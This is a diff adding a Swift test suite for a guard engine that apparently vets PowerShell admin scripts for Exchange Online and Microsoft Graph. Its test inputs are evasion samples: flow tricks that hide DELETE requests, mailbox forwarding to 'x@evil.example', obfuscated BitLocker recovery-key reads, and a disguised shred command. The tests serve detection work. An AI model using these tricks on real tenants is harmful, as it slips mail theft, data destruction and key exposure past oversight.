@@ -1,0 +1,90 @@
+import MMCore
+import MMGuard
+import Testing
+
+@Suite("The order in which a script runs", .timeLimit(.minutes(5)))
+struct ScriptFlowTests {
+    private func verdict(_ script: String) -> Verdict {
+        GuardEngine().judge(script: script, in: ScriptContext(module: "exo"), policy: .standard)
+    }
+
+    @Test(
+        "what a variable may hold where a part is left early, skipped, repeated or interleaved isn't taken for a read",
+        arguments: [
+            "$w=@{WhatIf=$true}; switch (1) { 1 { $w=@{Confirm=$false} } 1 { Add-MailboxPermission a -User b @w } }",
+            "$w=@{WhatIf=$true}; foreach($i in 1,2){ Remove-MailContact z @w; $w=@{Confirm=$false} }",
+            "$p=@{CustomAttribute1='a'}; foreach($i in 1,2){ Set-Mailbox h @p; $p=@{ForwardingSmtpAddress='x@evil.example'} }",
+            "$m='GET'; try { $m='DELETE'; throw 'x'; $m='GET' } catch { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
+            "$m='GET'; try { $m='DELETE'; throw 'x'; $m='GET' } catch { }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
+            "$m='GET'; try { 1 } catch { } finally { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'; $m = 'GET' }; $m='GET'; try { $m='DELETE'; throw 'x'; $m='GET' } finally { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
+            "$m='GET'; foreach ($i in 1,2) { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'; $m='DELETE'; if ($i) { continue }; $m='GET' }",
+            "$m='GET'; foreach ($i in 1,2) { $m='DELETE'; if ($i) { break }; $m='GET' }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
+            "$m='DELETE'; $x -and ($m='GET'); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
+            "$m='DELETE'; $x ?? ($m='GET'); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
+            "$m='DELETE'; Get-Mailbox a || ($m='GET'); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
+            "$m='GET'; if ($x) { 1 } elseif ($m='DELETE') { 2 } else { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
+            "$m='GET'; do { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } while ($m='DELETE')",
+            "$m='GET'; 1,2 | % { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } | % { $m='DELETE'; $_ }",
+            "$m='GET'; 1,2 | % { $m='GET'; $_ } | % { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'; $m='DELETE' }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
+            "$m='GET'; 1 | ForEach-Object -End { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } -Process { $m='DELETE' }",
+            "function f { end { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } begin { $m = 'DELETE' } }; f",
+            "$m='DELETE'; Get-CsOnlineUser -Filter { ($m='GET') }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
+        ])
+    func flow(script: String) {
+        let verdict = verdict(script)
+        #expect(verdict.decision != .allow, "\(verdict.rule): \(verdict.reason)")
+    }
+
+    @Test(
+        "many objects are counted wherever they come from",
+        arguments: [
+            "($x = Get-Mailbox -ResultSize Unlimited) | Set-Mailbox -CustomAttribute1 b",
+            "$a = $b = Get-Mailbox -ResultSize Unlimited; $a | Set-Mailbox -CustomAttribute1 b",
+            "foreach ($u in ($users = Get-Mailbox -ResultSize Unlimited)) { Set-Mailbox $u -CustomAttribute1 b }",
+            "param([string[]]$Users) foreach ($u in $Users) { Set-Mailbox $u -CustomAttribute1 b }",
+            "param($Users) foreach ($u in $Users) { Set-Mailbox $u -CustomAttribute1 b }",
+            "$sb={ Set-Mailbox $_.Alias -CustomAttribute1 k }; Get-Mailbox -ResultSize Unlimited | ForEach-Object $sb",
+            "$sb={ Set-Mailbox $_.Alias -CustomAttribute1 k }; (Get-Mailbox -ResultSize Unlimited).ForEach($sb)",
+            "foreach ($u in Get-MgUser -All) { Invoke-MgGraphRequest -Method PATCH -Uri \"/v1.0/users/$($u.Id)\" -Body @{department='x'} }",
+        ], [false, true])
+    func many(script: String, isBehindWire: Bool) {
+        let verdict = GuardEngine().judge(
+            script: script, in: ScriptContext(module: "exo", isBehindWire: isBehindWire), policy: .standard)
+        #expect(verdict.decision == .ask, "\(verdict.rule): \(verdict.reason)")
+        #expect(verdict.asking.contains { $0.rule == "bulk" }, "\(verdict.rule): \(verdict.reason)")
+    }
+
+    @Test(
+        "a value that a conversion or a name that a dead branch makes isn't taken at its word",
+        arguments: [
+            "Invoke-MgGraphRequest -Uri ('/v1.0/informationProtection/bitlocker/recoveryKeys/x?' + [char]36 + 'select=key')",
+            "Invoke-MgGraphRequest -Uri ('/v1.0/informationProtection/bitlocker/recoveryKeys/x?{0}select=key' -f [char]36)",
+            "Invoke-MgGraphRequest -Uri ('/v1.0/informationProtection/bitlocker/recoveryKeys/x?' + (36 -as [char]) + 'select=key')",
+            "if ($false) { function shred {} }; shred -u ./x.csv",
+            "function a { function Zap-Contoso {} }; Zap-Contoso x",
+            "($c = Get-AzContext) | ConvertTo-Json -Depth 5",
+            "try { Get-Mailbox x } catch { ($e=$_) | ConvertTo-Json }",
+        ])
+    func disguised(script: String) {
+        let verdict = verdict(script)
+        #expect(verdict.decision != .allow, "\(verdict.rule): \(verdict.reason)")
+    }
+
+    @Test(
+        "plain flow is still followed",
+        arguments: [
+            "$m = if ($x) { 'GET' } else { 'GET' }; Get-Mailbox ann",
+            "$x = 'a'; $box = switch ($x) { 'a' { Get-Mailbox ann } 'b' { Get-Mailbox bob } }; $box | Set-Mailbox -CustomAttribute1 x",
+            "foreach ($i in 1,2) { $p = @{ CustomAttribute1 = 'a' }; Set-Mailbox ann @p }",
+            "foreach ($b in Get-Mailbox -ResultSize 5) { try { Set-Mailbox $b.Alias -CustomAttribute1 a } catch { $failed += 1 } }",
+            "if ($x) { function Get-It { Get-Mailbox ann }; Get-It }",
+            "param([string]$User) Set-Mailbox $User -CustomAttribute1 b",
+            "$params = @{ JobTitle = 'x' }; Update-MgUser -UserId ann@contoso.com -BodyParameter $params",
+            "$h = @{ ConsistencyLevel = 'eventual' }; Invoke-MgGraphRequest GET /v1.0/users -Headers $h",
+            "$n = [int]5; for ($i = 0; $i -lt 3; $i += $n) { $i }",
+        ])
+    func plain(script: String) {
+        let verdict = verdict(script)
+        #expect(verdict.decision == .allow, "\(verdict.rule): \(verdict.reason)")
+    }
+}
